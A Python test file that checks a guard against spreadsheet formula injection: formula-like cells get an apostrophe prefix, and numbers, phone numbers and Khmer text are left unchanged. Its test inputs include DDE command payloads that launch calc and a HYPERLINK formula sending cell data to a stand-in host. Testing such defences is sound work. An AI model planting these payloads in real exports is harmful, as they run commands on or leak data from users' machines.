"""The guard against formulas: what it guards, what it lets be, and that it comes off again."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from server.formats.guard import guard, guarded, is_formula, unguard

TEXTS = st.text() | st.text(alphabet="=+-@|%'\t\r\n 0123.,;eEក៥＝a\u200b", max_size=12)


@given(TEXTS)
@example("'")
@example("''=1")
def test_what_is_guarded_comes_back_as_it_was(text: str) -> None:
    assert unguard(guard(text)) == text


@given(TEXTS)
def test_nothing_guarded_begins_as_a_formula_does(text: str) -> None:
    kept = guard(text)
    assert kept == text or kept == "'" + text
    assert not kept.lstrip().startswith(("=", "@", "＝", "＋", "－", "＠", "|", "%"))


@given(st.lists(TEXTS, min_size=1))
def test_a_column_is_guarded_as_its_cells_are(cells: list[str]) -> None:
    kept, count = guarded(cells)
    assert list(kept) == [guard(cell) for cell in cells]
    assert count == sum(is_formula(cell) for cell in cells)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", " =1+1", "\n=1+1", "\r\n\t=1+1", "\t1", "\r1", "\n1", "＝1+1", "＋1+1",
        "－1+1", "＠SUM(A1)", "\u200b=1+1", "\ufeff=1", "\x00=1", "%0A=1", "|cmd", "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "+855-12-345-678", "-1.26 -36.79", "-1/2", "- ទឹក", "'already", "''", "=ថ្ងៃ()", '=HYPERLINK("http://x/"&A1)',
        "-1.26\n=1", "+855 12 345 678;=1",
    ],
)  # fmt: skip
def test_a_formula_is_guarded(text: str) -> None:
    assert guard(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "", "-1.26", "+1", "-.5", "-1,26", "-1.26 36.79", "+11.55 104.92 12.0 4.5", "+855 12 345 678", "-12e-3", "-",
        "---", "-៤៥", "1-1", "ទឹក = ជីវិត", "a@b.org", "50%", " ទឹក", "uuid:aaaa-1", "2026-11-23T08:15:00.000+07:00", "។",
    ],
)  # fmt: skip
def test_what_is_no_formula_is_left_as_it_is(text: str) -> None:
    assert guard(text) == text
